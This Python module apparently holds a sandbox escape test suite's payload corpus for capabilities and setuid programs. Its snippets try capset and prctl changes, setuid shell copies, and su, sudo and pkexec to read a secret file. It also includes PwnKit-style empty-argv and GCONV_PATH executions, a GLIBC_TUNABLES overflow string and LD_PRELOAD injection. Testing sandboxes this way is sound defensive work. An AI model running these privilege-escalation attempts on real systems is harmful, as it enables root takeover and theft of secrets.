"""Capabilities and setuid programs."""

from tests.escapes.corpus import LOOT, NATIVE, TRY, Payload

PAYLOADS: list[Payload] = [
    Payload("capabilities", "capset, ambient and bounding set", (NATIVE, r"""
import struct
head = struct.pack("II", 0x20080522, 0)
room = ctypes.create_string_buffer(24)
print(attempt("get", syscall, "capget", head, room), room.raw.hex())
attempt("set", syscall, "capset", head, struct.pack("6I", *[0xffffffff] * 6))
for cap in range(41):
    try:
        print(cap, syscall("prctl", 23, cap, 0, 0, 0), end=" ")
    except OSError as error:
        print(cap, error.errno, end=" ")
    for operation in (2, 1):
        try:
            print(syscall("prctl", 47, operation, cap, 0, 0))
        except OSError:
            pass
attempt("bits", syscall, "prctl", 28, 0x2f, 0, 0, 0)
attempt("keep", syscall, "prctl", 8, 1, 0, 0, 0)
attempt("secret", lambda: open("{{SECRET}}").read())
""")),
    Payload("capabilities", "set*uid and groups", (LOOT, r"""
import os
for number in (0, 1, 1000, 65534):
    for name in ("setuid", "seteuid", "setgid", "setegid"):
        attempt(name, getattr(os, name), number)
    attempt("res", lambda: (os.setresuid(number, number, number), os.setresgid(number, number, number)))
    attempt("re", lambda: os.setreuid(number, 0))
attempt("groups", os.setgroups, [0, 4, 6, 27, 42, 998, 999])
attempt("init", os.initgroups, "root", 0)
print(os.getresuid(), os.getresgid(), os.getgroups())
loot(os)
""")),
    Payload("capabilities", "powers of root used blindly", (NATIVE, r"""
attempt("dac", lambda: open("{{SECRET}}").read())
attempt("chown", os.chown, "{{TARGET}}", 1, 1)
attempt("fowner", os.chmod, "{{TARGET}}", 0)
attempt("raw", lambda: __import__("socket").socket(2, 3, 1))
attempt("nice", os.nice, -20)
attempt("hostname", lambda: print(__import__("socket").gethostname()))
attempt("chroot", os.chroot, ".")
attempt("bind", lambda: __import__("socket").socket().bind(("", 80)))
attempt("mlock", lambda: syscall("mlockall", 1))
attempt("setfcap", lambda: os.setxattr("data.csv", "security.capability", bytes(20)))
attempt("trusted", lambda: os.setxattr("{{TARGET}}", "trusted.owned", b"1"))
attempt("immutable", lambda: __import__("fcntl").ioctl(os.open("{{TARGET}}", 0), 0x40086602, b"\x10\0\0\0\0\0\0\0"))
""")),
    Payload("capabilities", "file capabilities on an own copy of python", (TRY, r"""
import os, shutil, struct, subprocess, sys
tmp = os.environ.get("TMPDIR", "/tmp")
attempt("copy", shutil.copy, "/bin/sh", tmp + "/sh")
for xattr in (struct.pack("<IIIII", 0x02000001, 0xffffffff, 0xffffffff, 0xffffffff, 0xffffffff),
              struct.pack("<IIIIII", 0x03000001, 0xffffffff, 0, 0xffffffff, 0, 0)):
    attempt("xattr", os.setxattr, tmp + "/sh", "security.capability", xattr)
attempt("setuid", os.chmod, tmp + "/sh", 0o6755)
attempt("run", lambda: subprocess.run([tmp + "/sh", "-p", "-c", "id; cat {{SECRET}}; echo owned >> {{TARGET}}"],
                                      capture_output=True))
""")),
    Payload("setuid programs", "every one that can be found", (TRY, r"""
import os, stat, subprocess
for folder in ("/bin", "/usr/bin", "/sbin", "/usr/sbin", "/usr/lib/openssh", "/usr/lib/dbus-1.0", "/usr/libexec", "/opt"):
    for name in os.listdir(folder) if os.path.isdir(folder) else []:
        path = f"{folder}/{name}"
        try:
            if os.stat(path).st_mode & (stat.S_ISUID | stat.S_ISGID):
                print(path, oct(os.stat(path).st_mode))
        except OSError:
            pass
attempt("flags", lambda: [line for line in open("/proc/self/status") if line.startswith(("NoNewPrivs", "Cap", "Seccomp", "Uid"))])
""")),
    Payload("setuid programs", "su, sudo, pkexec, passwd, mount, at, crontab", (TRY, r"""
import subprocess
for command in (["su", "-c", "cat {{SECRET}}"], ["sudo", "-n", "cat", "{{SECRET}}"], ["pkexec", "cat", "{{SECRET}}"],
                ["mount", "-l"], ["fusermount3", "-V"], ["ping", "-c1", "-W1", "127.0.0.1"], ["passwd", "-S"],
                ["chfn", "--help"], ["gpasswd", "-h"], ["doas", "-n", "cat", "{{SECRET}}"],
                ["runuser", "-u", "root", "cat", "{{SECRET}}"]):
    attempt(command[0], lambda: subprocess.run(command, capture_output=True, timeout=3, input=b"\n"))
""")),
    Payload("setuid programs", "an empty argv and a poisoned environment", (NATIVE, r"""
def execve(path, argv, env):
    pid = os.fork()
    if pid == 0:
        syscall("execve", path, (ctypes.c_char_p * len(argv))(*argv), (ctypes.c_char_p * len(env))(*env))
        os._exit(1)
    return os.waitpid(pid, 0)
for path in (b"/usr/bin/pkexec", b"/usr/bin/su", b"/usr/bin/sudo", b"/bin/mount", b"/usr/bin/passwd"):
    attempt(path, lambda: execve(path, [None], [b"x", b"PATH=GCONV_PATH=.", b"CHARSET=X", b"SHELL=y", None]))
    tunables = b"GLIBC_TUNABLES=glibc.malloc.mxfast=glibc.malloc.mxfast=A"
    attempt("glibc", lambda: execve(path, [path, b"--help", None], [tunables, None]))
    attempt("preload", lambda: execve(path, [path, None], [b"LD_PRELOAD=/tmp/x.so", b"LD_AUDIT=/tmp/x.so", None]))
""")),
    Payload("setuid programs", "own setuid scripts and binfmt", (TRY, r"""
import os, subprocess
tmp = os.environ.get("TMPDIR", "/tmp")
open(tmp + "/s", "w").write("#!/bin/sh\nid\ncat {{SECRET}}\necho owned >> {{TARGET}}\n")
attempt("mode", os.chmod, tmp + "/s", 0o6777)
attempt("run", lambda: subprocess.run([tmp + "/s"], capture_output=True))
attempt("sh", lambda: subprocess.run(["sh", tmp + "/s"], capture_output=True))
def register():
    os.close(os.open("/proc/sys/fs/binfmt_misc/register", os.O_WRONLY)); broke("binfmt")
attempt("binfmt", register)
attempt("loop", lambda: (open(tmp + "/l", "w").write(f"#!{tmp}/l\n"), os.chmod(tmp + "/l", 0o755), subprocess.run([tmp + "/l"])))
""")),
]
